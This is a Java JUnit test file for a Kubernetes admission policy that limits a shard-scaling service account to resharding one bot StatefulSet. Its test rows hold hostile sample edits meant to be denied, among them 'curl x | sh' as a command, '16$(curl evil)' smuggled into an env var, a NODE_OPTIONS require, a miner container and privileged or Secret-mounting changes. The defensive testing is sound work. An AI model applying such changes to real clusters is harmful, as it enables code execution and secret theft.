package dev.shardscaler.admission;

import static dev.shardscaler.admission.StatefulSets.NAMESPACE;
import static dev.shardscaler.admission.StatefulSets.annotations;
import static dev.shardscaler.admission.StatefulSets.container;
import static dev.shardscaler.admission.StatefulSets.env;
import static dev.shardscaler.admission.StatefulSets.envVar;
import static dev.shardscaler.admission.StatefulSets.metadata;
import static dev.shardscaler.admission.StatefulSets.podSpec;
import static dev.shardscaler.admission.StatefulSets.spec;
import static dev.shardscaler.admission.StatefulSets.strings;
import static dev.shardscaler.admission.StatefulSets.template;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonObject;
import com.google.gson.JsonParser;
import dev.shardscaler.core.plan.Markers;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The StatefulSet policy of infra/k8s/admission, with the shipped params, over changes to the bot
 * StatefulSet that the scaler never makes: each one is denied for the scaler's identity, with a
 * message naming what changed, alone and smuggled into a legitimate reshard; and no one else is
 * matched at all. The changes the scaler does make are in {@link ScalerPatchesIT}.
 */
class StatefulSetPolicyTest {
  static final String SCALER = "system:serviceaccount:" + NAMESPACE + ":shardscaler";
  static final AdmissionPolicy POLICY = Infra.statefulSetPolicy();
  static final Map<String, Object> PARAMS = Infra.params(NAMESPACE);

  private final Admission admission = new Admission();

  @Test
  void everyExpressionOfThePolicyCompiles() {
    assertThat(POLICY.expressions()).hasSizeGreaterThan(20);
    POLICY.expressions().forEach(admission::program);
    assertThat(POLICY.failurePolicy()).isEqualTo("Fail");
  }

  @Test
  void theScalersOwnAnnotationsAreAllowedAndTheOnePeopleSetIsNot() {
    JsonObject old = StatefulSets.bot();

    for (String key : Markers.KEYS) {
      JsonObject changed =
          StatefulSets.with(old, s -> annotations(s).addProperty(key, "a value the scaler wrote"));
      assertThat(review(SCALER, List.of(), changed, old).outcome())
          .as("the scaler writes %s", key)
          .isEqualTo(Verdict.Outcome.ADMITTED);
    }
    JsonObject paused =
        StatefulSets.with(old, s -> annotations(s).addProperty(Markers.PAUSED, "true"));
    assertThat(review(SCALER, List.of(), paused, old).messages())
        .anyMatch(m -> m.contains("changed: " + Markers.PAUSED));
  }

  @Test
  void aReshardOfTheBotContainerIsAdmitted() {
    JsonObject old = StatefulSets.bot();

    Verdict verdict = review(SCALER, List.of(), reshard(old), old);

    assertThat(verdict.outcome()).as("%s", verdict).isEqualTo(Verdict.Outcome.ADMITTED);
  }

  @Test
  void anUpdateThatChangesNothingIsAdmitted() {
    JsonObject old = StatefulSets.bot();

    assertThat(review(SCALER, List.of(), old.deepCopy(), old).outcome())
        .isEqualTo(Verdict.Outcome.ADMITTED);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("changesTheScalerNeverMakes")
  void aChangeTheScalerNeverMakesIsDeniedWithAMessageNamingIt(
      String change, Consumer<JsonObject> before, Consumer<JsonObject> edit, String message) {
    JsonObject old = StatefulSets.with(StatefulSets.bot(), before);

    Verdict alone = review(SCALER, List.of(), StatefulSets.with(old, edit), old);
    Verdict smuggled = review(SCALER, List.of(), StatefulSets.with(reshard(old), edit), old);

    for (Verdict verdict : List.of(alone, smuggled)) {
      assertThat(verdict.outcome()).as("%s", verdict).isEqualTo(Verdict.Outcome.DENIED);
      assertThat(verdict.hasErrors()).as("%s", verdict).isFalse();
      assertThat(verdict.messages()).as("%s", verdict).anyMatch(m -> m.contains(message));
      assertThat(verdict.reasons()).as("a patch's content: 422").containsExactly("Invalid");
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("changesTheScalerNeverMakes")
  void anyoneElseMakingTheSameChangeIsNotMatched(
      String change, Consumer<JsonObject> before, Consumer<JsonObject> edit, String message) {
    JsonObject old = StatefulSets.with(StatefulSets.bot(), before);
    JsonObject changed = StatefulSets.with(old, edit);

    for (String user :
        List.of(
            "system:serviceaccount:" + NAMESPACE + ":deployer",
            "system:serviceaccount:other:shardscaler",
            "kubernetes-admin",
            "shardscaler")) {
      assertThat(review(user, List.of("system:masters"), changed, old).outcome())
          .as("%s by %s", change, user)
          .isEqualTo(Verdict.Outcome.NOT_MATCHED);
    }
  }

  static Stream<Arguments> changesTheScalerNeverMakes() {
    Consumer<JsonObject> none = sts -> {};
    return Stream.of(
        row(
            "the bot image",
            none,
            s -> container(s, "bot").addProperty("image", "evil/bot:1"),
            "may change only the env of container bot; changed: image"),
        row(
            "the bot command",
            none,
            s -> container(s, "bot").add("command", strings("/bin/sh", "-c", "curl x | sh")),
            "changed: command"),
        row(
            "args added to the bot",
            none,
            s -> container(s, "bot").add("args", strings("--inspect=0.0.0.0:9229")),
            "changed: args"),
        row(
            "the bot's resources",
            none,
            s -> container(s, "bot").add("resources", new JsonObject()),
            "changed: resources"),
        row(
            "a privileged bot",
            none,
            s ->
                container(s, "bot")
                    .add("securityContext", JsonParser.parseString("{\"privileged\":true}")),
            "changed: securityContext"),
        row(
            "a volume mount in the bot",
            none,
            s ->
                container(s, "bot")
                    .getAsJsonArray("volumeMounts")
                    .add(JsonParser.parseString("{\"name\":\"secrets\",\"mountPath\":\"/s\"}")),
            "changed: volumeMounts"),
        row(
            "the sidecar's env",
            none,
            s -> env(s, "log-shipper", "LOG_TARGET").addProperty("value", "https://evil"),
            "other than bot"),
        row(
            "the sidecar's own SHARDS",
            none,
            s -> env(s, "log-shipper", "SHARDS").addProperty("value", "16"),
            "other than bot"),
        row(
            "the sidecar's image",
            none,
            s -> container(s, "log-shipper").addProperty("image", "evil/shipper"),
            "other than bot"),
        row(
            "a container added",
            none,
            s ->
                podSpec(s)
                    .getAsJsonArray("containers")
                    .add(JsonParser.parseString("{\"name\":\"miner\",\"image\":\"evil/miner\"}")),
            "other than bot"),
        row(
            "the sidecar removed",
            none,
            s -> podSpec(s).getAsJsonArray("containers").remove(0),
            "other than bot"),
        row(
            "the containers reordered",
            none,
            s -> {
              JsonArray containers = podSpec(s).getAsJsonArray("containers");
              containers.add(containers.remove(0));
            },
            "other than bot"),
        row(
            "the bot token taken from another Secret",
            none,
            s ->
                env(s, "bot", "BOT_TOKEN")
                    .add(
                        "valueFrom",
                        JsonParser.parseString(
                            "{\"secretKeyRef\":{\"name\":\"db\",\"key\":\"password\"}}")),
            "may only change the values of SHARDS and SHARDS_PER_BOT"),
        row(
            "an env var appended to the bot",
            none,
            s ->
                container(s, "bot")
                    .getAsJsonArray("env")
                    .add(envVar("NODE_OPTIONS", "--require /tmp/x.js")),
            "may only change the values of SHARDS and SHARDS_PER_BOT"),
        row(
            "an env var removed from the bot",
            none,
            s -> container(s, "bot").getAsJsonArray("env").remove(4),
            "may only change the values of SHARDS and SHARDS_PER_BOT"),
        row(
            "SHARDS moved to the end",
            none,
            s -> {
              JsonArray env = container(s, "bot").getAsJsonArray("env");
              env.add(env.remove(1));
            },
            "may only change the values of SHARDS and SHARDS_PER_BOT"),
        row(
            "SHARDS twice",
            none,
            s -> container(s, "bot").getAsJsonArray("env").add(envVar("SHARDS", "16")),
            "may only change the values of SHARDS and SHARDS_PER_BOT"),
        row(
            "SHARDS from a Secret",
            none,
            s -> {
              JsonObject shards = env(s, "bot", "SHARDS");
              shards.remove("value");
              shards.add(
                  "valueFrom",
                  JsonParser.parseString("{\"secretKeyRef\":{\"name\":\"db\",\"key\":\"pw\"}}"));
            },
            "as {name, value} with a whole number"),
        row(
            "SHARDS not a number",
            none,
            s -> env(s, "bot", "SHARDS").addProperty("value", "16$(curl evil)"),
            "as {name, value} with a whole number"),
        row(
            "SHARDS zero",
            none,
            s -> env(s, "bot", "SHARDS").addProperty("value", "0"),
            "as {name, value} with a whole number"),
        row(
            "SHARDS above maxShards",
            none,
            s -> env(s, "bot", "SHARDS").addProperty("value", "65"),
            "at most maxShards, 64"),
        row(
            "SHARDS_PER_BOT from the downward API",
            none,
            s -> {
              JsonObject perBot = env(s, "bot", "SHARDS_PER_BOT");
              perBot.add(
                  "valueFrom",
                  JsonParser.parseString("{\"fieldRef\":{\"fieldPath\":\"metadata.name\"}}"));
            },
            "as {name, value} with a whole number"),
        row(
            "the service account",
            none,
            s -> {
              podSpec(s).addProperty("serviceAccountName", "admin");
              podSpec(s).addProperty("serviceAccount", "admin");
            },
            "changed: serviceAccountName, serviceAccount"),
        row(
            "the token mounted",
            none,
            s -> podSpec(s).addProperty("automountServiceAccountToken", true),
            "changed: automountServiceAccountToken"),
        row(
            "a Secret volume",
            none,
            s ->
                podSpec(s)
                    .getAsJsonArray("volumes")
                    .add(
                        JsonParser.parseString(
                            "{\"name\":\"s\",\"secret\":{\"secretName\":\"db\"}}")),
            "changed: volumes"),
        row(
            "the host network",
            none,
            s -> podSpec(s).addProperty("hostNetwork", true),
            "changed: hostNetwork"),
        row(
            "an init container",
            none,
            s ->
                podSpec(s)
                    .add(
                        "initContainers",
                        JsonParser.parseString("[{\"name\":\"x\",\"image\":\"evil/x\"}]")),
            "changed: initContainers"),
        row(
            "the node selector",
            none,
            s ->
                podSpec(s)
                    .add(
                        "nodeSelector",
                        JsonParser.parseString("{\"kubernetes.io/hostname\":\"node-1\"}")),
            "changed: nodeSelector"),
        row(
            "the pod template's annotations",
            none,
            s ->
                template(s)
                    .getAsJsonObject("metadata")
                    .getAsJsonObject("annotations")
                    .addProperty("kubectl.kubernetes.io/restartedAt", "2026-11-28T12:00:00Z"),
            "changed: template.metadata"),
        row(
            "the pod template's labels",
            none,
            s ->
                template(s)
                    .getAsJsonObject("metadata")
                    .getAsJsonObject("labels")
                    .addProperty("tier", "x"),
            "changed: template.metadata"),
        row(
            "the update strategy",
            none,
            s -> spec(s).add("updateStrategy", JsonParser.parseString("{\"type\":\"OnDelete\"}")),
            "changed: updateStrategy"),
        row(
            "the pod management policy",
            none,
            s -> spec(s).addProperty("podManagementPolicy", "Parallel"),
            "changed: podManagementPolicy"),
        row(
            "a volume claim template",
            none,
            s ->
                spec(s)
                    .add(
                        "volumeClaimTemplates",
                        JsonParser.parseString("[{\"metadata\":{\"name\":\"data\"}}]")),
            "changed: volumeClaimTemplates"),
        row(
            "replicas above maxShards",
            none,
            s -> spec(s).addProperty("replicas", 65),
            "from 1 to maxShards (64), not 65"),
        row(
            "replicas zero",
            none,
            s -> spec(s).addProperty("replicas", 0),
            "from 1 to maxShards (64), not 0"),
        row(
            "a label",
            none,
            s -> metadata(s).getAsJsonObject("labels").addProperty("app.kubernetes.io/name", "x"),
            "metadata but shardscaler.dev/ annotations; changed: labels"),
        row(
            "an owner reference",
            none,
            s ->
                metadata(s)
                    .add(
                        "ownerReferences",
                        JsonParser.parseString(
                            "[{\"apiVersion\":\"v1\",\"kind\":\"ConfigMap\","
                                + "\"name\":\"x\",\"uid\":\"1\"}]")),
            "changed: ownerReferences"),
        row(
            "a finalizer",
            none,
            s -> metadata(s).add("finalizers", strings("example.com/hold")),
            "changed: finalizers"),
        row(
            "another annotation changed",
            none,
            s -> annotations(s).addProperty("team.example/owner", "mallory"),
            "changed: team.example/owner"),
        row(
            "another annotation added",
            none,
            s -> annotations(s).addProperty("example.com/note", "x"),
            "changed: example.com/note"),
        row(
            "kubectl's last-applied configuration removed",
            none,
            s -> annotations(s).remove("kubectl.kubernetes.io/last-applied-configuration"),
            "changed: kubectl.kubernetes.io/last-applied-configuration"),
        row(
            "shardscaler.dev/paused set",
            none,
            s -> annotations(s).addProperty("shardscaler.dev/paused", "true"),
            "changed: shardscaler.dev/paused"),
        row(
            "shardscaler.dev/paused removed",
            s -> annotations(s).addProperty("shardscaler.dev/paused", "incident 4711"),
            s -> annotations(s).remove("shardscaler.dev/paused"),
            "changed: shardscaler.dev/paused"),
        row(
            "shardscaler.dev/paused changed",
            s -> annotations(s).addProperty("shardscaler.dev/paused", "true"),
            s -> annotations(s).addProperty("shardscaler.dev/paused", "false"),
            "changed: shardscaler.dev/paused"));
  }

  @Test
  void creatingOrDeletingAStatefulSetIsDenied() {
    JsonObject bot = StatefulSets.bot();

    Verdict create =
        admission.review(POLICY, request("CREATE", SCALER, List.of(), bot, null), PARAMS);
    Verdict delete =
        admission.review(POLICY, request("DELETE", SCALER, List.of(), null, bot), PARAMS);

    for (Verdict verdict : List.of(create, delete)) {
      assertThat(verdict.outcome()).as("%s", verdict).isEqualTo(Verdict.Outcome.DENIED);
      assertThat(verdict.hasErrors()).as("%s", verdict).isFalse();
      assertThat(verdict.messages())
          .containsExactly(
              "the scaler may update its target StatefulSets, never create or delete one (with"
                  + " bluegreen: true, only their siblings <target>-b)");
      assertThat(verdict.reasons()).containsExactly("Forbidden");
    }
  }

  @Test
  void aStatefulSetThatIsNotATargetIsDenied() {
    JsonObject other =
        StatefulSets.with(StatefulSets.bot(), s -> metadata(s).addProperty("name", "database"));

    Verdict verdict = review(SCALER, List.of(), reshard(other), other);

    assertThat(verdict.outcome()).isEqualTo(Verdict.Outcome.DENIED);
    assertThat(verdict.messages())
        .contains(
            "StatefulSet database is not one of the scaler's targets (params key"
                + " statefulSets: \"bot\")");
  }

  @Test
  void withoutAShardCapInTheParamsEveryUpdateIsDenied() {
    JsonObject old = StatefulSets.bot();
    Map<String, Object> params = Infra.withData(PARAMS, data -> data.remove("maxShards"));

    Verdict verdict =
        admission.review(POLICY, update(SCALER, List.of(), reshard(old), old), params);

    assertThat(verdict.outcome()).isEqualTo(Verdict.Outcome.DENIED);
    assertThat(verdict.messages())
        .anyMatch(
            m ->
                m.contains(
                    "the params ConfigMap shardscaler-params must set maxShards (or bot.maxShards)"));
  }

  @Test
  void inANamespaceWithoutParamsThePolicyDoesNotApply() {
    JsonObject old = StatefulSets.bot();
    JsonObject evil =
        StatefulSets.with(old, s -> container(s, "bot").addProperty("image", "evil/bot"));

    assertThat(admission.review(POLICY, update(SCALER, List.of(), evil, old), null).outcome())
        .isEqualTo(Verdict.Outcome.NOT_MATCHED);
  }

  @Test
  void theIdentityIsMatchedByUserNameOrGroupWhenTheParamsNameThem() {
    JsonObject old = StatefulSets.bot();
    JsonObject evil =
        StatefulSets.with(old, s -> container(s, "bot").addProperty("image", "evil/bot"));
    String gke = "shardscaler-fn@my-bot-project.iam.gserviceaccount.com";
    Map<String, Object> gkeParams =
        Infra.withData(
            PARAMS,
            data -> {
              data.remove("serviceAccounts");
              data.put("users", gke);
            });
    Map<String, Object> eksParams =
        Infra.withData(
            PARAMS,
            data -> {
              data.remove("serviceAccounts");
              data.put("groups", "shardscaler");
            });
    String eksUser = "arn:aws:sts::123456789012:assumed-role/shardscaler-lambda/1732795200000";

    assertThat(
            admission
                .review(POLICY, update(gke, List.of("system:authenticated"), evil, old), gkeParams)
                .outcome())
        .isEqualTo(Verdict.Outcome.DENIED);
    assertThat(
            admission
                .review(
                    POLICY,
                    update(eksUser, List.of("shardscaler", "system:authenticated"), evil, old),
                    eksParams)
                .outcome())
        .isEqualTo(Verdict.Outcome.DENIED);
    assertThat(
            admission
                .review(
                    POLICY,
                    update(eksUser, List.of("developers", "system:authenticated"), evil, old),
                    eksParams)
                .outcome())
        .isEqualTo(Verdict.Outcome.NOT_MATCHED);
    assertThat(
            admission
                .review(POLICY, update("someone@example.com", List.of(), evil, old), gkeParams)
                .outcome())
        .isEqualTo(Verdict.Outcome.NOT_MATCHED);
    // Empty entries name nobody.
    Map<String, Object> empty =
        Infra.withData(
            PARAMS,
            data -> {
              data.put("serviceAccounts", " , ");
              data.put("users", "");
              data.put("groups", "");
            });
    assertThat(admission.review(POLICY, update("", List.of(""), evil, old), empty).outcome())
        .isEqualTo(Verdict.Outcome.NOT_MATCHED);
  }

  // --- helpers ---

  /** What a reshard 12 → 16 shards, 3 → 4 pods, looks like (the IT drives the real patch). */
  static JsonObject reshard(JsonObject old) {
    return StatefulSets.with(
        old,
        s -> {
          spec(s).addProperty("replicas", 4);
          env(s, "bot", "SHARDS").addProperty("value", "16");
          annotations(s).addProperty("shardscaler.dev/last-change", "2026-11-28T12:00:00Z 12→16");
        });
  }

  private Verdict review(String user, List<String> groups, JsonObject object, JsonObject old) {
    return admission.review(POLICY, update(user, groups, object, old), PARAMS);
  }

  static Admission.Request update(
      String user, List<String> groups, JsonObject object, JsonObject old) {
    return request("UPDATE", user, groups, StatefulSets.asStored(object, old, "shardscaler"), old);
  }

  static Admission.Request request(
      String operation, String user, List<String> groups, JsonObject object, JsonObject old) {
    JsonObject named = object != null ? object : old;
    JsonElement name = metadata(named).get("name");
    return new Admission.Request(
        operation,
        "apps",
        "v1",
        "statefulsets",
        NAMESPACE,
        name.getAsString(),
        user,
        groups,
        object,
        old);
  }

  private static Arguments row(
      String change, Consumer<JsonObject> before, Consumer<JsonObject> edit, String message) {
    return Arguments.of(change, before, edit, message);
  }
}
